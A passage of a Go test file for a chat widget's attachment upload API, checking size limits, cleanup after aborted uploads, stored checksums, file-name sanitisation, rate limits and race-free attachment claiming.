	expect(t, e.postRaw(path, token, bigType, bytes.NewReader(big)), 413, "attachment_too_large")
	expect(t, e.postRaw(path, token, bigType, hiddenLength{bytes.NewReader(big)}), 413, "attachment_too_large")
	small, smallType := multipartFile(t, "small.txt", "text/plain", []byte("hello"))
	preamble := bytes.Repeat([]byte(strings.Repeat("p", 98)+"\r\n"), 10_000)
	expect(t, e.postRaw(path, token, smallType, hiddenLength{io.MultiReader(bytes.NewReader(preamble), bytes.NewReader(small))}), 413, "attachment_too_large")
	e.expectNothingStored(t, "bodies over the limit")

	// And the valid form still works, chunked too.
	expect(t, e.postRaw(path, token, smallType, bytes.NewReader(small)), 201, "")
	expect(t, e.postRaw(path, token, smallType, hiddenLength{bytes.NewReader(small)}), 201, "")
	if n := apiCount(t, e, "SELECT COUNT(*) FROM attachments WHERE state = 'ready'"); n != 2 {
		t.Fatalf("%d ready attachments, want 2", n)
	}
}

// An upload that stops mid-way (the client goes away) leaves nothing behind either.
func TestAttachmentClientGoesAway(t *testing.T) {
	e := newEnv(t)
	token := e.session()
	body, ct := multipartFile(t, "a.txt", "text/plain", bytes.Repeat([]byte("abcdefgh"), 200_000))
	pr, pw := io.Pipe()
	go func() {
		pw.Write(body[:len(body)/2])
		time.Sleep(200 * time.Millisecond)
		pw.CloseWithError(io.ErrClosedPipe)
	}()
	req, err := http.NewRequest("POST", e.srv.URL+"/v1/widget/attachments", pr)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", ct)
	req.Header.Set("Authorization", "Bearer "+token)
	if res, err := e.client.Do(req); err == nil {
		res.Body.Close()
		t.Fatalf("the aborted upload got %d", res.StatusCode)
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		records, chunks := e.stored()
		if records == 0 && chunks == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("an aborted upload left %d records and %d chunks", records, chunks)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// storedAttachment reads one attachment record from the store.
func (e *env) storedAttachment(id string) store.Attachment {
	e.t.Helper()
	a, err := e.st.Attachment(context.Background(), id)
	if err != nil {
		e.t.Fatal(err)
	}
	return a
}

// The stored record matches what was uploaded: checksum, size, generated storage key.
func TestAttachmentStoredRecord(t *testing.T) {
	e := newEnv(t)
	token := e.session()
	data := pngBytes(t, 5, 4)
	att := e.uploaded(token, "../x.png", "image/png", data)
	a := e.storedAttachment(att["id"].(string))
	if a.State != store.AttachmentReady || a.Size != int64(len(data)) || a.Name != "x.png" || a.Width != 5 || a.Height != 4 {
		t.Fatalf("stored %+v", a)
	}
	if a.StorageKey == "" || strings.Contains(a.StorageKey, "x.png") {
		t.Fatalf("storage key %q: must be generated, never the file name", a.StorageKey)
	}
	if fmt.Sprintf("%x", a.SHA256) != fmt.Sprintf("%x", sha256.Sum256(data)) {
		t.Fatalf("sha256 %x, want %s", a.SHA256, fmt.Sprintf("%x", sha256.Sum256(data)))
	}
	n, err := e.svc.StoredBytes(context.Background(), e.ws.ID)
	if err != nil || n != int64(len(data)) {
		t.Fatalf("StoredBytes %d, %v; want %d", n, err, len(data))
	}
}

// Uploads are limited per session and per address; a refused upload stores nothing.
func TestAttachmentRateLimits(t *testing.T) {
	e := newEnv(t, withLimits(httpapi.Limits{
		UploadsPerSession: httpapi.Rate{Every: time.Hour, Burst: 2},
		UploadsPerIP:      httpapi.Rate{Every: time.Hour, Burst: 3},
	}))
	a, b := e.session(), e.session()
	e.uploaded(a, "1.txt", "", []byte("one"))
	e.uploaded(a, "2.txt", "", []byte("two"))
	expect(t, e.upload(a, "3.txt", "", []byte("three")), 429, "rate_limited")
	e.uploaded(b, "4.txt", "", []byte("four"))
	expect(t, e.upload(b, "5.txt", "", []byte("five")), 429, "rate_limited") // the address's third was b's first
	if n := apiCount(t, e, "SELECT COUNT(*) FROM attachments"); n != 3 {
		t.Fatalf("%d attachment records, want the 3 accepted", n)
	}
}

// Messages sent at the same moment with the same file: exactly one takes it.
func TestAttachmentSentOnceUnderRace(t *testing.T) {
	e := newEnv(t)
	token := e.session()
	expect(t, e.send(token, "hello", "c-0"), 201, "") // the conversation exists: the race is on the file alone
	id := e.uploaded(token, "a.png", "image/png", pngBytes(t, 2, 2))["id"].(string)
	const senders = 8
	statuses := make(chan string, senders)
	start := make(chan struct{})
	for i := range senders {
		go func() {
			<-start
			body := fmt.Sprintf(`{"body":"mine %d","client_id":"r-%d","attachments":[%q]}`, i, i, id)
			req, _ := http.NewRequest("POST", e.srv.URL+"/v1/widget/messages", strings.NewReader(body))
			req.Header.Set("Content-Type", "application/json")
			req.Header.Set("Authorization", "Bearer "+token)
			res, err := e.client.Do(req)
			if err != nil {
				statuses <- err.Error()
				return
			}
			raw, _ := io.ReadAll(res.Body)
			res.Body.Close()
			r := response{status: res.StatusCode, raw: raw}
			_ = json.Unmarshal(raw, &r.body)
			statuses <- fmt.Sprintf("%d %s %s", r.status, r.code(), apiField(r))
		}()
	}
	close(start)
	counts := map[string]int{}
	for range senders {
		counts[<-statuses]++
	}
	if counts["201  "] != 1 || counts["422 invalid_field attachments"] != senders-1 {
		t.Fatalf("replies %v: want one 201 and %d refusals of the attachment", counts, senders-1)
	}
	var with int
	for _, m := range e.messages(token, e.conversations(token)[0]["id"].(string), "") {
		if len(attachmentIDs(m)) > 0 {
			with++
		}
	}
	if with != 1 {
		t.Fatalf("%d messages carry the file, want 1", with)
	}
}
